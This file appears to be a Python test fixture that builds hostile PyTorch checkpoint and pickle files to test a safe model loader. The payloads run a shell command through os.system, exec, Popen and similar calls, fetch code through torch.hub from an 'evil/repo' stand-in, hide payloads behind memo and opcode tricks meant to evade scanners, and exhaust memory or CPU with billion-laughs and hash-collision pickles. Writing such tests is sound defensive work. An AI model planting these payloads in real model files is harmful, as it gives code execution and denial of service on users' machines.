"""Hostile checkpoints whose pickles try to run something or to exhaust the reader."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.helpers import pickle_ops as ops

Build = Callable[[Path, Path], Path]
"""Writes a file into the first folder; what it would run creates the canary, the second path."""


def payloads(canary: Path) -> dict[str, bytes]:
    """Pickle fragments that would create ``canary`` (or fetch and run a program) when loaded."""
    shell = ops.text(f"touch {canary}")
    code = ops.text(f"open({str(canary)!r}, 'w')")
    nested = ops.stream(ops.call("posix", "system", shell))
    raw = b"B" + struct.pack("<I", len(nested)) + nested
    return {
        "os.system": ops.call("os", "system", shell),
        "posix.system": ops.call("posix", "system", shell),
        "builtins.exec": ops.call("builtins", "exec", code),
        "builtins.eval": ops.call("builtins", "eval", code),
        "builtins.open": ops.call("builtins", "open", ops.text(str(canary)), ops.text("w")),
        "Python 2 __builtin__.eval": ops.call("__builtin__", "eval", code),
        "subprocess.Popen": ops.call(
            "subprocess", "Popen", b"](" + ops.text("touch") + ops.text(str(canary)) + b"e"
        ),
        "runpy.run_path": ops.call("runpy", "run_path", ops.text(str(canary))),
        "pty.spawn": ops.call("pty", "spawn", ops.text("/bin/true")),
        "nested pickle.loads": ops.call("_pickle", "loads", raw),
        "torch.hub.load": ops.call("torch.hub", "load", ops.text("evil/repo"), ops.text("entry")),
        "torch.load of a second file": ops.call("torch.serialization", "load", ops.text("x.pt")),
        "torch.storage._load_from_bytes": ops.call("torch.storage", "_load_from_bytes", raw),
        "torch.utils.collect_env.run": ops.call("torch.utils.collect_env", "run", shell),
        "torch.jit.load": ops.call("torch.jit._serialization", "load", ops.text("x.pt")),
        "torch.utils.cpp_extension": ops.call(
            "torch.utils.cpp_extension", "load_inline", ops.text("evil"), code
        ),
        "numpy runstring": ops.call("numpy.testing._private.utils", "runstring", code, b"}"),
        "attribute of an attribute": ops.text("torch.nn")
        + ops.text("modules.os.system")
        + b"\x93"
        + ops.group(shell)
        + b"R",
        "dunder attribute": ops.text("torch.nn.modules.linear")
        + ops.text("Linear.__init__.__globals__")
        + b"\x93",
        "partial with __setstate__": ops.call("functools", "partial", ops.name("os", "system"))
        + ops.group(ops.name("os", "system"), ops.group(shell), b"}", b"}")
        + b"b",
        "names from the memo": ops.text("os")
        + b"q\x01"
        + b"0"
        + ops.text("system")
        + b"q\x02"
        + b"0h\x01h\x02\x93"
        + ops.group(shell)
        + b"R",
        "memo entry replaced": ops.name("collections", "OrderedDict")
        + b"q\x05"
        + b"0"
        + ops.name("os", "system")
        + b"q\x05"
        + b"0h\x05"
        + ops.group(shell)
        + b"R",
        "payload popped again": ops.call("os", "system", shell) + b"0N",
        "INST opcode": b"(" + shell + b"ios\nsystem\n",
        "OBJ opcode": b"(" + ops.name("os", "system") + shell + b"o",
        "NEWOBJ opcode": ops.name("subprocess", "Popen") + ops.group(shell) + b"\x81",
        "NEWOBJ_EX opcode": ops.name("subprocess", "Popen")
        + ops.group(shell)
        + ops.dictionary({"shell": b"\x88"})
        + b"\x92",
        "own __reduce__ chain": ops.call(
            "builtins",
            "getattr",
            ops.call("importlib", "import_module", ops.text("os")),
            ops.text("system"),
        )
        + ops.group(shell)
        + b"R",
    }


def _in_zip(payload: str) -> Build:
    def build(folder: Path, canary: Path) -> Path:
        return ops.write_zip(folder / "model.pth", ops.network(payloads(canary)[payload]))

    return build


def _in_legacy(payload: str) -> Build:
    def build(folder: Path, canary: Path) -> Path:
        body = ops.network(payloads(canary)[payload], legacy=True)
        return ops.write_legacy(folder / "model.pth", body)

    return build


def executing() -> Iterator[tuple[str, Build]]:
    """Files that would run something when unpickled in full; the weights are beside it."""
    for payload in payloads(Path("canary")):
        yield f"{payload}, zip", _in_zip(payload)
    for payload in ("posix.system", "builtins.exec", "torch.hub.load", "INST opcode"):
        yield f"{payload}, legacy container", _in_legacy(payload)


def _pickle(body: Callable[[], bytes], *, legacy: bool = False) -> Build:
    """A zip (or legacy) file whose pickle stream is ``body()`` between PROTO and STOP."""

    def build(folder: Path, canary: Path) -> Path:
        write = ops.write_legacy if legacy else ops.write_zip
        return write(folder / "model.pth", ops.stream(body()))

    return build


def _weights(extra: bytes) -> bytes:
    return ops.dictionary({"payload": extra, "fc.weight": ops.tensor()})


def _beside(extra: Callable[[], bytes]) -> Build:
    return _pickle(lambda: _weights(extra()))


def _laughs() -> bytes:
    body = b"]q\x00"
    for level in range(1, 60):
        body += b"0](" + (b"h" + bytes([level - 1])) * 10 + b"e" + b"q" + bytes([level])
    return body


def _copies() -> bytes:
    pair = ops.group(ops.text("a"), b"N")
    many = b"](" + pair + b"q\x01" + b"h\x01" * 20_000 + b"eq\x02"
    again = (ops.name("collections", "OrderedDict") + b"h\x02\x85R0") * 2_000
    return many + again


def _collisions() -> bytes:
    modulus = (1 << 61) - 1
    return b"}(" + b"".join(ops.number(modulus * k + 7) + b"N" for k in range(20_000)) + b"u"


def _colliding_tuples() -> bytes:
    """Pairs of integers with one hash: the steps of the hash of a tuple can be undone."""
    word, first, second, fifth = (
        1 << 64,
        11400714785074694791,
        14029467366897019727,
        2870177450012600261,
    )
    undo = pow(second, -1, word)
    keys: list[bytes] = []
    number = 1
    while len(keys) < 20_000:
        number += 1
        lane = (fifth + number * second) % word
        lane = ((lane << 31) | (lane >> 33)) % word * first % word
        other = (7 - lane) * undo % word
        other -= word if other >> 63 else 0
        if abs(other) < 1 << 60:
            keys.append(ops.number(number) + ops.number(other) + b"\x86N")
    return b"}(" + b"".join(keys) + b"u"


def _module(parameters: bytes, children: bytes) -> bytes:
    state = ops.dictionary({"_parameters": parameters, "_buffers": b"}", "_modules": children})
    return ops.name("torch.nn.modules.container", "Sequential") + b")\x81" + state + b"b"


def _shared_modules() -> bytes:
    """25 levels of modules, each twice the one below: 33 million in a state dict."""
    body = _module(ops.dictionary({"w": ops.tensor()}), b"}") + b"q\x01"
    for _ in range(25):
        twice = b"}(" + ops.text("a") + b"h\x01" + ops.text("b") + b"h\x01u"
        body += b"0" + _module(b"}", twice) + b"q\x01"
    return body


def _shared_names() -> bytes:
    """25 levels of modules under one name of 4 MiB."""
    body = _module(ops.dictionary({"w": ops.tensor()}), b"}")
    for _ in range(25):
        body = _module(b"}", b"}(h\x02" + body + b"u")
    return ops.text("a" * (4 << 20)) + b"q\x020" + body


def _repeated_tensor() -> bytes:
    arguments = ops.group(
        ops.storage(legacy=False),
        ops.number(0),
        ops.group(*[ops.number(1)] * 32),
        ops.group(*[ops.number(0)] * 32),
        b"\x89",
        b"}",
    )
    function = ops.name("torch._utils", "_rebuild_tensor_v2")
    return arguments + b"q\x010" + function + b"q\x020N" + b"0h\x02h\x01R" * 100_000


def _many_tensors() -> bytes:
    refs = ops.tensor((1 << 20,), (1,), elements=1 << 20) + b"q\x07"
    entries = b"".join(
        ops.text(f"w{index}") + ops.tensor((1 << 20,), (1,), elements=1 << 20)
        for index in range(2_100)
    )
    return refs + b"0}(" + entries + b"u"


def _own_child() -> bytes:
    """A module whose only child is itself."""
    state = ops.dictionary(
        {"_parameters": b"}", "_buffers": b"}", "_modules": b"}(" + ops.text("me") + b"h\x01u"}
    )
    module = ops.name("torch.nn.modules.container", "Sequential") + b")\x81q\x01"
    return module + state + b"b"


def _deep_key() -> bytes:
    return b"}" + b")" + b"\x85" * 30_000 + b"Ns"


def exhausting() -> Iterator[tuple[str, Build]]:
    """Pickles that would exhaust memory, the stack or the time of a careless reader."""
    yield "deep nesting of tuples", _beside(lambda: b")" + b"\x85" * 50_000)
    yield "deep nesting of lists", _beside(lambda: b"]" * 30_000 + b"a" * 29_999)
    yield "deep nesting of marks", _beside(lambda: b"(" * 100_000 + b"t" * 100_000)
    yield "a deeply nested dictionary key", _beside(_deep_key)
    yield "exponential sharing (billion laughs)", _beside(_laughs)
    yield "a list that holds itself", _beside(lambda: b"]q\x01h\x01a")
    yield "a module that holds itself", _pickle(_own_child)
    yield "copying one list again and again", _beside(_copies)
    yield "colliding integer keys", _beside(_collisions)
    yield "colliding tuples as keys", _beside(_colliding_tuples)
    yield "modules shared 33 million times", _pickle(_shared_modules)
    yield "module names of 4 MiB, nested", _pickle(_shared_names)
    yield "a tensor rebuilt 100,000 times", _beside(_repeated_tensor)
    yield (
        "a tensor name of a million prefixes",
        _pickle(lambda: ops.dictionary({"net." * (1 << 20): ops.tensor()})),
    )
    yield (
        "20,000 different names to import",
        _beside(lambda: b"N" + b"".join(b"0cm%d\nf\n" % index for index in range(20_000))),
    )
    yield (
        "a name of 4 MiB of dots to import",
        _beside(lambda: ops.text("os" + "." * (4 << 20)) + ops.text("x") + b"\x93"),
    )
    yield "ten million opcodes", _beside(lambda: b"N" + b"N0" * 5_000_000)
    yield "a string of 2**60 bytes", _beside(lambda: b"\x8d" + struct.pack("<Q", 1 << 60) + b"x")
    yield (
        "a byte array of 2**60 bytes",
        _beside(lambda: b"\x96" + struct.pack("<Q", 1 << 60) + b"x"),
    )
    yield "a memo index of 2**32 - 1", _beside(lambda: b"Nr\xff\xff\xff\xff")
    yield "an integer of a million digits", _beside(lambda: b"L" + b"9" * 1_000_000 + b"L\n")
    yield (
        "bytearray(10**12)",
        _beside(lambda: ops.call("builtins", "bytearray", ops.number(10**12))),
    )
    yield (
        "UntypedStorage(10**12)",
        _beside(lambda: ops.call("torch.storage", "UntypedStorage", ops.number(10**12))),
    )
    yield (
        "FloatTensor(10**12)",
        _beside(lambda: ops.call("torch", "FloatTensor", ops.number(10**12))),
    )
    yield "setting items of a tensor", _beside(lambda: ops.tensor() + ops.text("a") + b"Ns")
    yield (
        "new state for a tensor",
        _beside(
            lambda: (
                ops.tensor()
                + ops.group(
                    ops.storage(legacy=False),
                    ops.number(10**11),
                    ops.group(ops.number(4)),
                    ops.group(ops.number(1)),
                )
                + b"b"
            )
        ),
    )
    yield "a stack without values", _pickle(lambda: b"0" * 50)
    yield "a buffer from outside", _beside(lambda: b"\x97")
    yield "extension registry", _beside(lambda: b"\x82\x01")
    yield (
        "names hidden after malformed opcodes",
        _beside(lambda: b"h\x77" + ops.call("os", "system", ops.text("true"))),
    )
    yield (
        "a second pickle behind the first",
        lambda folder, canary: ops.write_zip(
            folder / "model.pth", ops.network() + ops.stream(payloads(canary)["posix.system"])
        ),
    )


def tensors() -> Iterator[tuple[str, Build]]:
    """Declared tensors and storages that do not fit the file."""
    big = 10**12
    yield (
        "a storage of 4 TB, zip",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((big,), (1,), elements=big)})),
    )
    yield (
        "a storage of 4 TB, legacy",
        _pickle(
            lambda: ops.dictionary({"w": ops.tensor((big,), (1,), elements=big, legacy=True)}),
            legacy=True,
        ),
    )
    yield (
        "a tensor outside of its storage",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((1000, 1000), (1000, 1))})),
    )
    yield (
        "an offset outside of the storage",
        _pickle(lambda: ops.dictionary({"w": ops.tensor(offset=10**9)})),
    )
    yield (
        "a tensor expanded to 4 TB with stride 0",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((big,), (0,))})),
    )
    yield "a negative stride", _pickle(lambda: ops.dictionary({"w": ops.tensor((2, 2), (-2, 1))}))
    yield "a negative size", _pickle(lambda: ops.dictionary({"w": ops.tensor((-2, 2), (2, 1))}))
    yield (
        "sizes that overflow 64 bits",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((1 << 40, 1 << 40), (0, 0))})),
    )
    yield (
        "an empty tensor whose other sizes overflow 64 bits",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((0, 1 << 61, 4), (1, 1, 1))})),
    )
    yield (
        "a thousand dimensions",
        _pickle(lambda: ops.dictionary({"w": ops.tensor((1,) * 1000, (1,) * 1000)})),
    )
    yield (
        "2,100 tensors over one storage of 4 MiB",
        lambda folder, canary: ops.write_zip(
            folder / "model.pth", ops.stream(_many_tensors()), {"0": bytes(4 << 20)}
        ),
    )
    yield (
        "overlapping tensors (readable)",
        _pickle(lambda: ops.dictionary({"a": ops.tensor(), "b": ops.tensor((3,), (1,), offset=1)})),
    )
    yield "a storage that is missing", _pickle(lambda: ops.dictionary({"w": ops.tensor(key="7")}))
    yield (
        "a storage key with a path",
        _pickle(lambda: ops.dictionary({"w": ops.tensor(key="../data.pkl")})),
    )
    yield (
        "one storage declared with two types, zip",
        _pickle(
            lambda: ops.dictionary(
                {"a": ops.tensor(), "b": ops.tensor(kind="DoubleStorage", elements=2)}
            )
        ),
    )
    yield (
        "one storage declared with two types, legacy",
        _pickle(
            lambda: ops.dictionary(
                {"a": ops.tensor(legacy=True), "b": ops.tensor(legacy=True, kind="DoubleStorage")}
            ),
            legacy=True,
        ),
    )
    yield (
        "a legacy file cut off inside a storage",
        lambda folder, canary: ops.write_legacy(
            folder / "model.pth", ops.network(legacy=True), storages=struct.pack("<q", 4) + b"\0\0"
        ),
    )
    yield (
        "a legacy storage list with a payload",
        lambda folder, canary: ops.write_legacy(
            folder / "model.pth",
            ops.network(legacy=True),
            keys=ops.stream(payloads(canary)["posix.system"]),
        ),
    )
    yield (
        "a legacy header with a payload",
        lambda folder, canary: ops.write_legacy(
            folder / "model.pth",
            ops.network(legacy=True),
            system=ops.stream(payloads(canary)["posix.system"]),
        ),
    )
    yield (
        "a payload before the legacy magic number",
        lambda folder, canary: ops.write_legacy(
            folder / "model.pth",
            ops.network(legacy=True),
            magic=b"\x80\x02" + payloads(canary)["posix.system"] + b"0" + ops.MAGIC[2:],
        ),
    )
    yield (
        "a quantised storage",
        _pickle(lambda: ops.dictionary({"w": ops.tensor(kind="QInt8Storage")})),
    )
    yield (
        "a tensor name with terminal escapes",
        _pickle(lambda: ops.dictionary({"\x1b[2Jfc.weight": ops.tensor()})),
    )
    yield (
        "a tensor name that is not Unicode",
        _pickle(lambda: ops.dictionary({"fc\udc80": ops.tensor()})),
    )


def plain_pickle(folder: Path, canary: Path) -> Path:
    """What pickle.dump writes, with a payload."""
    path = folder / "model.pkl"
    path.write_bytes(ops.stream(payloads(canary)["posix.system"]))
    return path


def joblib_like(folder: Path, canary: Path) -> Path:
    path = folder / "model.joblib"
    path.write_bytes(pickle.dumps({"weights": [1.0, 2.0]}, protocol=4))
    return path
